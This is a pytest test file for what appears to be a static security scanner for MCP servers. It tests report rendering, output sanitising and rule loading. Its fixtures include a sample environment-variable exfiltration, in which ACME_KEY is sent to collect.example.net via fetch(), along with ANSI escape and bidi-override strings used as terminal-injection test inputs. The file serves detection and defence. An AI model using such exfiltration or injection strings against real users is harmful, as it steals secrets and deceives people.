"""Frames, text and JSON reports, the transport of reports, and rules as data."""

from __future__ import annotations

import json
import sys
import unicodedata
from dataclasses import replace
from pathlib import Path

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_sarif import CODE, finding, report_of

from mcp_sast.detection.loader import load_rules, selected
from mcp_sast.errors import DefinitionError, UsageError
from mcp_sast.findings.diagnostic import Diagnostic
from mcp_sast.findings.finding import Related, Step
from mcp_sast.findings.place import Place
from mcp_sast.findings.report import HostInfo, LineFrame, Report, ServerInfo, ToolInfo, report_from_json, report_to_json
from mcp_sast.reports import json_report, text
from mcp_sast.reports.frames import WINDOW, frames_of
from mcp_sast.reports.options import ReportOptions
from mcp_sast.reports.plain import plain, plain_block, plain_columns

_SCHEMA = json.loads((Path(__file__).parent.parent / "docs" / "schemas" / "report-v1.json").read_text("utf-8"))


def frame(data: bytes, start: int, end: int) -> LineFrame:
    (found,) = frames_of([Place("f", start, end)], {"f": data})
    return found


# ------------------------------------------------------------------------------------------------------------------ frames


@pytest.mark.parametrize(("data", "part", "expected"), [
    (b"abc\ndef", b"def", (2, 1, 2, 4, "def")),
    (b"abc\r\ndef\r\n", b"abc", (1, 1, 1, 4, "abc")),
    (b"a\rb\nc", b"c", (2, 1, 2, 2, "c")),
    ("é😀x".encode(), b"x", (1, 4, 1, 5, "é😀x")),
    (b"\xef\xbb\xbfabc", b"abc", (1, 1, 1, 4, "abc")),
    (b"\xff\xfex", b"x", (1, 3, 1, 4, "\ufffd\ufffdx")),
    (b"a(\nb\n)", b"(\nb\n)", (1, 2, 3, 2, "a(")),
    (b"x", b"x", (1, 1, 1, 2, "x")),
])
def test_lines_and_columns(data: bytes, part: bytes, expected: tuple[int, int, int, int, str]) -> None:
    start = data.index(part)
    found = frame(data, start, start + len(part))
    assert (found.start_line, found.start_column, found.end_line, found.end_column, found.text) == expected


@pytest.mark.parametrize(("start", "end"), [(-5, 2), (2, 99), (99, 120), (5, 3), (0, 0)])
def test_offsets_outside_the_file_are_brought_inside(start: int, end: int) -> None:
    found = frame(b"ab\ncd", start, end)
    assert 1 <= found.start_line <= found.end_line <= 2
    assert found.start_column >= 1


def test_files_that_are_not_there_have_no_frame() -> None:
    assert frames_of([Place("other", 0, 1)], {"f": b"x"}) == ()


def test_long_lines_are_cut_to_a_window() -> None:
    data = b"x" * 5_000 + "😀".encode() + b"needle" + b"y" * 5_000
    start = data.index(b"needle")
    found = frame(data, start, start + 6)
    assert len(found.text) == WINDOW
    assert found.start_column == 5_003
    at = found.start_column - found.text_column
    assert found.text.encode("utf-16-le")[2 * at: 2 * at + 12].decode("utf-16-le") == "needle"


@given(st.text(alphabet="ab\n\ré😀\u2028", max_size=60), st.lists(st.tuples(st.integers(0, 60), st.integers(0, 60)), max_size=6))
def test_one_sweep_says_what_counting_says(source: str, spans: list[tuple[int, int]]) -> None:
    data = source.encode()
    offsets = [len(source[:index].encode()) for index in range(len(source) + 1)]
    places = [Place("f", offsets[min(a, b, len(source))], offsets[min(max(a, b), len(source))]) for a, b in spans]
    for found in frames_of(places, {"f": data}):
        before = data[:found.place.start].decode()
        assert found.start_line == before.count("\n") + 1
        assert found.start_column == len(before.rsplit("\n", 1)[-1].encode("utf-16-le")) // 2 + 1
        assert found == frame(data, found.place.start, found.place.end)


# ------------------------------------------------------------------------------------------------------------------- plain


def test_every_invisible_character_goes() -> None:
    for number in range(sys.maxunicode + 1):
        character = chr(number)
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            # A break becomes a space; what opens an ANSI string hides the rest.
            assert plain(f"a{character}b") in ("ab", "a b", "a"), hex(number)
            assert plain_columns(character) in ("\ufffd", " "), hex(number)


@pytest.mark.parametrize(("given_text", "expected"), [
    ("\x1b[31mred\x1b[0m", "red"),
    ("\x1b]8;;https://evil.example\x07link\x1b]8;;\x1b\\", "link"),
    ("\x9b31mred", "red"),
    ("a\x1bPhidden\x1b\\b", "ab"),
    ("\u202eevil\u2066", "evil"),
    ("tag\U000e0041s", "tags"),
    ("two\r\nlines\tand", "two lines and"),
    ("❤️ é 中", "❤️ é 中"),
    ("", ""),
])
def test_plain(given_text: str, expected: str) -> None:
    assert plain(given_text) == expected


def test_plain_block_keeps_lines() -> None:
    assert plain_block("a\r\n\tb\x1b[2Jc\u2028d\x00") == "a\n\tbc\nd"


# -------------------------------------------------------------------------------------------------------------------- text


def show(*reports: Report, **options: bool) -> str:
    return text.render(reports, ReportOptions(**options))


def test_the_text_report_shows_all_a_reader_needs() -> None:
    gate = Related(Place("src/index.js", 0, 5), "its gate")
    shown = show(report_of(finding(guard="after 15 calls", related=(gate,))))
    assert shown.startswith("error[env-exfiltration] The variable ACME_KEY is sent to collect.example.net.\n")
    assert shown.split("\n")[1] == " --> src/index.js:2:17"
    lines = shown.split("\n")
    code = lines.index('2 | const π = "😀"; fetch("https://collect.example.net", {')
    before, marked = lines[code].split("fetch(")[0], 'fetch("https://collect.example.net"'
    assert lines[code + 1] == "  |" + " " * (len(before) - 3 + 1) + "^" * len(marked)  # the emoji takes two cells
    for line in (
        "  when: phase import", "  only if: after 15 calls", "    1. src/index.js:1:13  reads ACME_KEY",
        "    2. src/index.js:3:3  sent as body", "    1. src/index.js:1:1  module top of src/index.js",
        "  see also: src/index.js:1:1  its gate",
    ):
        assert line in lines, line
    assert "  why: An MCP server inherits" in shown
    assert "  do: Do not run this version." in shown
    assert lines[-2] == f"1 error, 0 warnings in 1 file of 1 package ({len(load_rules())} rules)"


def test_a_rule_is_explained_once() -> None:
    shown = show(report_of(finding(), finding(source="OTHER")))
    assert shown.count("  why:") == 1


def test_hidden_notes_and_diagnostics_are_said() -> None:
    places = [Place("src/index.js", number, number + 1) for number in range(25)]
    diagnostics = tuple(Diagnostic("broken-syntax", f"part {place.start}", place) for place in places)
    shown = show(report_of(finding(level="note"), diagnostics=diagnostics))
    assert "env-exfiltration" not in shown
    assert "1 note hidden, --notes shows them; 25 diagnostics" in shown
    assert "warning[broken-syntax] part 0 (src/index.js:1)" in shown
    assert "… and 5 more diagnostics" in shown
    assert "error" in show(report_of(finding(level="note")), notes=True)


def test_an_incomplete_scan_is_said_even_when_quiet() -> None:
    stopped = Diagnostic("limit-reached", "too many steps", None, "warning", incomplete=True)
    shown = show(report_of(diagnostics=(stopped,)), quiet=True)
    assert "the scan is incomplete (limit-reached)" in shown
    assert show(report_of(), quiet=True) == ""


def test_hostile_text_and_code_steer_no_terminal() -> None:
    code = b"const a = '\x1b[2J\xe2\x80\xae';\n"
    evil = "\x1b]0;title\x07\u202e\u200b x"
    path = "a\x1b[31m\n.js"
    here = Place(path, 10, 15)
    shown = show(report_of(
        finding(message=evil, guard=evil, place=here, steps=(Step(here, evil),), chain=(Step(here, evil),)), contents={path: code},
        diagnostics=(Diagnostic("broken-syntax", evil, here),), name=evil,
    ))
    assert all(character == "\n" or unicodedata.category(character) not in ("Cc", "Cf") for character in shown)


def test_colour_only_where_asked_for() -> None:
    assert "\x1b" not in show(report_of(finding()))
    assert "\x1b[1;31merror[env-exfiltration]\x1b[0m" in show(report_of(finding()), colour=True)


def test_long_lines_and_long_flows_stay_readable() -> None:
    data = b"z" * 3_000 + b"needle" + b"z" * 3_000
    here = Place("m.js", 3_000, 3_006)
    steps = tuple(Step(here, f"step {number}") for number in range(100))
    shown = show(report_of(finding(place=here, steps=steps, chain=()), contents={"m.js": data}))
    lines = shown.split("\n")
    underline = next(line for line in lines if "^" in line)
    code = lines[lines.index(underline) - 1]
    assert code[underline.index("^"): underline.rindex("^") + 1] == "needle"
    assert len(code) < 160
    assert "… 60 steps left out" in shown
    assert "step 99" in shown


def test_several_packages_are_named() -> None:
    second = replace(report_of().subject, name="second", root="packages/second")
    other = replace(report_of(finding()), subject=second)
    shown = show(report_of(finding()), other)
    assert "acme-mcp 1.0.0 in .\n" in shown
    assert "second 1.0.0 in packages/second\n" in shown
    assert f"2 errors, 0 warnings in 2 files of 2 packages ({len(load_rules())} rules)" in shown


# -------------------------------------------------------------------------------------------------------------------- JSON


def full_report() -> Report:
    here = Place("src/index.js", 0, 5)
    derived = Place("src/index.js", 0, 5, "src/index.js!decoded", "fetch(x)\u202e")
    server = ServerInfo("acme", "1.0.0", here, (ToolInfo("send", "Sends\nmail\x1b[0m", here, "src/index.js#send"),),
                        (HostInfo("api.example.net", "readme"),), ("ACME_KEY",))
    report = report_of(
        finding(place=derived, related=(Related(here, "gate"),), tools=("send",)),
        finding(level="note", phase=None, source="Ü\ud800"),
        diagnostics=(Diagnostic("broken-syntax", "part", here), Diagnostic("limit-reached", "steps", None, "error", True)),
    )
    return replace(report, servers=(server,))


@pytest.mark.parametrize("report", [full_report(), report_of()])
@pytest.mark.parametrize("notes", [True, False])
def test_json_keeps_to_its_schema(report: Report, notes: bool) -> None:
    document = json.loads(json_report.render((report,), ReportOptions(notes=notes)))
    validator = jsonschema.Draft202012Validator(_SCHEMA)
    assert [error.message for error in validator.iter_errors(document)] == []
    assert document["summary"]["findings"]["note"] == sum(f.level == "note" for f in report.findings)
    assert len(document["packages"][0]["findings"]) == sum(notes or f.level != "note" for f in report.findings)
    assert not any(escape in json.dumps(document) for escape in ("\\u202e", "\\u001b", "\\ud800"))


def test_json_says_where_and_what() -> None:
    document = json.loads(json_report.render((report_of(finding()),), ReportOptions()))
    (found,) = document["packages"][0]["findings"]
    start = CODE.index(b"fetch")
    assert found["location"]["startLine"] == 2
    assert found["location"]["startByte"] == start
    assert [step["text"] for step in found["steps"]] == ["reads ACME_KEY", "sent as body"]
    assert found["destination"] == "collect.example.net"


def test_a_report_survives_its_transport() -> None:
    report = full_report()
    assert report_from_json(report_to_json(report)) == report
    assert report_to_json(report).isascii()


@pytest.mark.parametrize("wrong", ["", "[]", "{}", "null", '{"subject": 1}', "[" * 100_000])
def test_what_is_no_report_is_refused(wrong: str) -> None:
    with pytest.raises(ValueError):
        report_from_json(wrong)


def test_a_report_with_a_wrong_type_is_refused() -> None:
    document = json.loads(report_to_json(full_report()))
    document["findings"][0]["level"] = "fatal"
    with pytest.raises(ValueError, match="fatal"):
        report_from_json(json.dumps(document))
    document = json.loads(report_to_json(full_report()))
    document["stats"]["files"] = "many"
    with pytest.raises(ValueError, match="int"):
        report_from_json(json.dumps(document))


# ------------------------------------------------------------------------------------------------------------------- rules

_RULE = """\
id: {id}
title: A title
level: warning
cwe: [CWE-200]
security-severity: 5.5
tags: [mcp]
short: Short.
full: Full.
why: Why.
remedy: Remedy.
evaluator: environment-flow
"""


def write_rule(folder: Path, name: str, body: str) -> None:
    (folder / "behaviour").mkdir(exist_ok=True)
    (folder / "behaviour" / f"{name}.yaml").write_text(body.format(id=name), encoding="utf-8")
    (folder / "behaviour" / f"{name}.md").write_text(f"# {name}\n", encoding="utf-8")


def test_shipped_rules_are_complete() -> None:
    rules = load_rules()
    assert [rule.id for rule in rules] == sorted(rule.id for rule in rules)
    assert {"env-exfiltration", "hidden-recipient", "undeclared-host"} <= {rule.id for rule in rules}
    for rule in rules:
        assert rule.text.help_markdown.startswith(f"# {rule.id}:")
    flows = [rule for rule in rules if rule.id.endswith("-exfiltration")]
    assert len(flows) >= 4 and all(rule.sources or rule.sinks for rule in flows)


def test_rules_of_ones_own_are_added(tmp_path: Path) -> None:
    write_rule(tmp_path, "our-rule", _RULE)
    (tmp_path / "models").mkdir()
    (tmp_path / "models" / "x.yaml").write_text("no rule", encoding="utf-8")
    rule = next(rule for rule in load_rules((tmp_path,)) if rule.id == "our-rule")
    assert rule.text.help_markdown == "# our-rule\n"
    assert rule.text.security_severity == 5.5
    assert rule.origin == "behaviour/our-rule.yaml"


@pytest.mark.parametrize(("change", "complaint"), [
    (("id: {id}", "id: other"), "the id must be"),
    (("level: warning", "level: fatal"), "the level must be one of"),
    (("cwe: [CWE-200]", "cwe: [200]"), "no CWE id"),
    (("cwe: [CWE-200]", "cwe: CWE-200"), "must be a list"),
    (("security-severity: 5.5", "security-severity: 11"), "0.1 to 10.0"),
    (("security-severity: 5.5", "security-severity: 0.0"), "0.1 to 10.0"),
    (("tags: [mcp]", "tags: [os.environ]"), "models name APIs"),
    (("tags: [mcp]", "tags: [a, b, c, d, e, f, g, h, i]"), "more than 8"),
    (("why: Why.", "why: ''"), "must be a text"),
    (("why: Why.", "why: Why.\nwhence: x"), "unknown key 'whence'"),
    (("why: Why.\n", ""), "'why' is missing"),
    (("why: Why.", "why: Why.\nwhy: Why."), "stands twice"),
    (("full: Full.", "full: " + "x" * 1100), "longer than 1024"),
    (("title: A title", "title: [a"), "behaviour/bad.yaml:"),
    (("id: {id}", "- id: {id}\n  x: y\n"), "bad.yaml"),
])
def test_mistakes_are_named(tmp_path: Path, change: tuple[str, str], complaint: str) -> None:
    write_rule(tmp_path, "bad", _RULE.replace(*change))
    with pytest.raises(DefinitionError) as caught:
        load_rules((tmp_path,))
    assert any(complaint in problem for problem in caught.value.problems), caught.value.problems


def test_mistakes_of_all_files_come_together(tmp_path: Path) -> None:
    write_rule(tmp_path, "one", _RULE.replace("level: warning", "level: fatal").replace("cwe: [CWE-200]", "cwe: [x]"))
    write_rule(tmp_path, "two", _RULE.replace("remedy: Remedy.\n", ""))
    write_rule(tmp_path, "env-exfiltration", _RULE)
    (tmp_path / "behaviour" / "two.md").unlink()
    with pytest.raises(DefinitionError) as caught:
        load_rules((tmp_path,))
    text_of_all = str(caught.value)
    for complaint in ("one.yaml:3:", "one.yaml:4:", "two.yaml", "no page two.md", "already defined"):
        assert complaint in text_of_all


def test_selection() -> None:
    rules = load_rules()
    assert [rule.id for rule in selected(rules, ("undeclared-host",), ())] == ["undeclared-host"]
    assert "undeclared-host" not in [rule.id for rule in selected(rules, (), ("undeclared-host",))]
    with pytest.raises(UsageError, match="no such rule: a, b"):
        selected(rules, ("b",), ("a",))
